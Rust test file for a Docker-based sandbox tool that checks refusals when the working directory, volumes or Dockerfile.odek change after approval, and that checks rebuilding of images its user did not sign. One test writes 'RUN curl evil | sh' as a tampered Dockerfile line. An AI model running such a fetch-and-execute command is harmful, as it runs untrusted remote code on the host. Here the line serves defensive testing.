//! Time of check to time of use (SPEC §3.4, §5, §6.1): what resolve checked
//! (the working directory, volumes, `Dockerfile.odek`) is checked again when
//! it is used, and an image tagged like one odek builds is reused only when
//! this user's odek built it. Each refusal leaves nothing created.

mod common;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use common::*;
use odek_core::engine::{DockerApi, FakeImage, Op};
use odek_core::image::{BUILD_MAC_DOMAIN, BUILD_MAC_LABEL};
use odek_core::secret::Secret;
use odek_core::{FailureClass, Plan, WarningKind};

/// A directory next to the working directory holding a listening Unix
/// socket (which `-C` of it refuses: "holds a Unix socket").
fn sockdir(s: &Setup) -> (PathBuf, std::os::unix::net::UnixListener) {
    let dir = s.root().canonicalize().expect("root").join("sockdir");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let l = std::os::unix::net::UnixListener::bind(dir.join("agent.sock")).expect("bind");
    (dir, l)
}

/// `mv workdir workdir.real; ln -s target workdir`.
fn swap_for_symlink(workdir: &Path, target: &Path) {
    std::fs::rename(workdir, workdir.with_extension("real")).expect("mv");
    std::os::unix::fs::symlink(target, workdir).expect("ln -s");
}

// ---------------------------------------------------------------------------
// The working directory

#[tokio::test]
async fn a_workdir_swapped_for_a_symlink_after_resolve_is_refused_at_launch() {
    let s = Setup::new();
    let (sock, _l) = sockdir(&s);
    let plan = s.resolve().await.expect("resolve");
    assert!(plan.workdir_id.is_some(), "resolve records the identity");
    // While the approval prompt waits.
    swap_for_symlink(&s.workdir, &sock);
    let err = s.launch(&plan).await.expect_err("swapped workdir");
    assert_refused_before_create(
        &s,
        &err,
        FailureClass::Config,
        "changed since it was resolved and approved",
    );
    assert!(err.to_string().contains("symbolic link"), "{err}");
}

#[tokio::test]
async fn a_workdir_replaced_by_another_directory_after_resolve_is_refused() {
    let s = Setup::new();
    let plan = s.resolve().await.expect("resolve");
    std::fs::rename(&s.workdir, s.workdir.with_extension("real")).expect("mv");
    std::fs::create_dir(&s.workdir).expect("mkdir");
    let err = s.launch(&plan).await.expect_err("another directory");
    assert_refused_before_create(&s, &err, FailureClass::Config, "another directory");
}

#[tokio::test]
async fn a_workdir_swapped_while_the_image_is_checked_is_refused_before_create() {
    // The check at the start of the launch passes; the swap happens during
    // the image step (a pull or build can take minutes).
    let fake = shop_fake();
    let spy = Spy::new(fake.clone());
    let s = Setup::over(fake, spy.clone() as Arc<dyn DockerApi>).image(IMAGE);
    let (sock, _l) = sockdir(&s);
    let plan = s.resolve().await.expect("resolve");
    let workdir = s.workdir.clone();
    spy.after_call(Op::InspectImage, move |_| swap_for_symlink(&workdir, &sock));
    let err = s.launch(&plan).await.expect_err("swapped mid-launch");
    assert_refused(
        &s,
        &err,
        FailureClass::Config,
        "changed since it was resolved and approved",
    );
    assert!(
        s.fake.calls_of(Op::CreateContainer).is_empty(),
        "{:?}",
        s.mutations()
    );
}

#[tokio::test]
async fn a_volume_swapped_for_a_symlink_while_the_image_is_checked_is_refused() {
    let fake = shop_fake();
    let spy = Spy::new(fake.clone());
    let s = Setup::over(fake, spy.clone() as Arc<dyn DockerApi>)
        .image(IMAGE)
        .user_config(r#"{"sandbox_volumes": ["./cache:/cache"]}"#);
    std::fs::create_dir(s.workdir.join("cache")).expect("mkdir");
    let (sock, _l) = sockdir(&s);
    let plan = s.resolve().await.expect("resolve");
    let cache = s.workdir.join("cache");
    spy.after_call(Op::InspectImage, move |_| swap_for_symlink(&cache, &sock));
    let err = s.launch(&plan).await.expect_err("swapped volume");
    assert_refused(&s, &err, FailureClass::Config, "symbolic link");
    assert!(err.to_string().contains("volume"), "{err}");
    assert!(s.fake.calls_of(Op::CreateContainer).is_empty());
}

#[tokio::test]
async fn a_parent_plan_whose_workdir_fails_the_rules_now_is_refused_at_launch() {
    // `odek sandbox up --parent` launches a plan read from the parent's
    // label: the working directory is validated again, fully.
    let s = Setup::new();
    let plan = s.resolve().await.expect("resolve");
    let mut root = plan.clone();
    root.workdir = PathBuf::from("/");
    root.workdir_id = None;
    let err = s.launch(&root).await.expect_err("/ as workdir");
    assert_refused_before_create(&s, &err, FailureClass::Config, "system directory");
    // The same directory, which now holds a Unix socket.
    let _l = std::os::unix::net::UnixListener::bind(s.workdir.join("agent.sock")).expect("bind");
    let err = s.launch(&plan).await.expect_err("a socket appeared");
    assert_refused_before_create(&s, &err, FailureClass::Config, "holds a Unix socket");
}

#[tokio::test]
async fn a_plan_of_an_earlier_release_parses_and_is_checked_by_path() {
    let s = Setup::new();
    let (sock, _l) = sockdir(&s);
    let plan = s.resolve().await.expect("resolve");
    let mut json: serde_json::Value = serde_json::to_value(&plan).expect("json");
    json.as_object_mut().expect("object").remove("workdir_id");
    let old: Plan = serde_json::from_value(json).expect("a plan without workdir_id parses");
    assert_eq!(old.workdir_id, None);
    swap_for_symlink(&s.workdir, &sock);
    let err = s.launch(&old).await.expect_err("symlink");
    assert_refused_before_create(&s, &err, FailureClass::Config, "symbolic link");
}

#[tokio::test]
async fn a_plan_without_workdir_id_takes_one_at_the_start_of_the_launch() {
    let fake = shop_fake();
    let spy = Spy::new(fake.clone());
    let s = Setup::over(fake, spy.clone() as Arc<dyn DockerApi>).image(IMAGE);
    let mut plan = s.resolve().await.expect("resolve");
    plan.workdir_id = None;
    let workdir = s.workdir.clone();
    spy.after_call(Op::InspectImage, move |_| {
        std::fs::rename(&workdir, workdir.with_extension("real")).expect("mv");
        std::fs::create_dir(&workdir).expect("mkdir");
    });
    let err = s.launch(&plan).await.expect_err("replaced mid-launch");
    assert_refused(&s, &err, FailureClass::Config, "another directory");
    assert!(s.fake.calls_of(Op::CreateContainer).is_empty());
}

#[tokio::test]
async fn a_launch_whose_mounts_cannot_be_read_back_says_so() {
    // The fake runs no process (no State.Pid), as a daemon whose processes
    // are not visible here; its endpoint is a local Unix socket.
    let s = Setup::new();
    let sb = s.up().await.expect("launch");
    let w: Vec<_> = sb
        .warnings
        .iter()
        .filter(|w| w.kind == WarningKind::MountsUnverified)
        .collect();
    assert_eq!(w.len(), 1, "{:?}", sb.warnings);
    assert!(w[0].message.contains("/workspace"), "{}", w[0].message);
}

// ---------------------------------------------------------------------------
// Dockerfile.odek

const APPROVED: &str = "FROM odek-test/base:1\nRUN true\n";

fn tag_of(dockerfile: &str) -> String {
    use sha2::Digest;
    let d = sha2::Sha256::digest(dockerfile.as_bytes());
    format!("odek-sandbox:{}", hex::encode(&d[..12]))
}

fn sha_of(dockerfile: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(dockerfile.as_bytes()))
}

/// Without an image flag, approved by the environment switch.
fn dockerfile_setup() -> Setup {
    let s = Setup::without_image().env("ODEK_APPROVE_PROJECT_SANDBOX", "1");
    std::fs::write(s.workdir.join("Dockerfile.odek"), APPROVED).expect("write");
    s
}

#[tokio::test]
async fn a_dockerfile_odek_changed_after_resolve_is_not_built() {
    let s = dockerfile_setup();
    let plan = s.resolve().await.expect("resolve");
    assert_eq!(plan.image.reference.original, tag_of(APPROVED));
    std::fs::write(
        s.workdir.join("Dockerfile.odek"),
        "FROM odek-test/base:1\nRUN curl evil | sh\n",
    )
    .expect("swap");
    let err = s.launch(&plan).await.expect_err("changed Dockerfile");
    assert_refused_before_create(
        &s,
        &err,
        FailureClass::Config,
        "Dockerfile.odek changed since it was resolved and approved",
    );
    assert!(s.fake.calls_of(Op::BuildImage).is_empty());
    assert!(
        s.fake.image(&tag_of(APPROVED)).is_none(),
        "nothing tagged with the approved hash"
    );
}

#[tokio::test]
async fn a_dockerfile_odek_swapped_for_a_symlink_to_the_same_content_is_not_built() {
    let s = dockerfile_setup();
    let plan = s.resolve().await.expect("resolve");
    let elsewhere = s.root().join("Dockerfile.elsewhere");
    std::fs::write(&elsewhere, APPROVED).expect("write");
    std::fs::remove_file(s.workdir.join("Dockerfile.odek")).expect("rm");
    std::os::unix::fs::symlink(&elsewhere, s.workdir.join("Dockerfile.odek")).expect("ln");
    let err = s.launch(&plan).await.expect_err("symlinked Dockerfile");
    assert_refused_before_create(&s, &err, FailureClass::Config, "symbolic link");
    assert!(s.fake.calls_of(Op::BuildImage).is_empty());
}

#[tokio::test]
async fn the_build_sends_the_approved_bytes_and_marks_the_image() {
    let s = dockerfile_setup();
    let sb = s.up().await.expect("launch");
    let builds = s.fake.builds();
    assert_eq!(builds.len(), 1);
    let mut ar = tar::Archive::new(builds[0].1.as_slice());
    let mut sent = Vec::new();
    for e in ar.entries().expect("tar") {
        let mut e = e.expect("entry");
        if e.path().expect("path").to_string_lossy() == "Dockerfile.odek" {
            std::io::Read::read_to_end(&mut e, &mut sent).expect("read");
        }
    }
    assert_eq!(sent, APPROVED.as_bytes());
    let img = s.fake.image(&tag_of(APPROVED)).expect("tagged");
    let key = Secret::load(&s.odek_home)
        .expect("key")
        .expect("made at build");
    let mac = img.labels.get(BUILD_MAC_LABEL).expect("marked");
    assert!(key.verify(BUILD_MAC_DOMAIN, &[sha_of(APPROVED).as_bytes()], mac));
    assert_eq!(
        sb.applied.expect("applied").image_id,
        img.id,
        "the container runs the image built"
    );
}

#[tokio::test]
async fn an_odek_sandbox_image_odek_did_not_build_is_rebuilt() {
    for forged in [None, Some("00".repeat(32))] {
        let s = dockerfile_setup();
        // A Compose file of the repository built and tagged this.
        let mut poisoned = FakeImage::new(&tag_of(APPROVED));
        if let Some(mac) = &forged {
            poisoned = poisoned.label(BUILD_MAC_LABEL, mac);
        }
        let poisoned_id = s.fake.add_image(poisoned);
        let sb = s.up().await.expect("launch");
        assert_eq!(
            s.fake.calls_of(Op::BuildImage).len(),
            1,
            "rebuilt ({forged:?})"
        );
        let used = sb.applied.expect("applied").image_id;
        assert_ne!(used, poisoned_id, "the poisoned image is not used");
        assert_eq!(
            s.fake.image(&tag_of(APPROVED)).expect("tag").id,
            used,
            "the tag moved to the new build"
        );
        assert!(s
            .reporter
            .progress()
            .iter()
            .any(|l| l.contains("not built by this user's odek")));
    }
}

#[tokio::test]
async fn an_odek_sandbox_image_marked_by_this_user_is_reused() {
    let s = dockerfile_setup();
    let key = Secret::load_or_create(&s.odek_home).expect("key");
    let mac = key.mac(BUILD_MAC_DOMAIN, &[sha_of(APPROVED).as_bytes()]);
    let ours = s
        .fake
        .add_image(FakeImage::new(&tag_of(APPROVED)).label(BUILD_MAC_LABEL, &mac));
    let sb = s.up().await.expect("launch");
    assert!(s.fake.calls_of(Op::BuildImage).is_empty(), "reused");
    assert_eq!(sb.applied.expect("applied").image_id, ours);
    // Another user's mark (another key) does not count.
    let other = tempfile::tempdir().expect("tempdir");
    let theirs = Secret::load_or_create(other.path())
        .expect("key")
        .mac(BUILD_MAC_DOMAIN, &[sha_of(APPROVED).as_bytes()]);
    let s = dockerfile_setup();
    s.fake
        .add_image(FakeImage::new(&tag_of(APPROVED)).label(BUILD_MAC_LABEL, &theirs));
    s.up().await.expect("launch");
    assert_eq!(s.fake.calls_of(Op::BuildImage).len(), 1, "rebuilt");
}
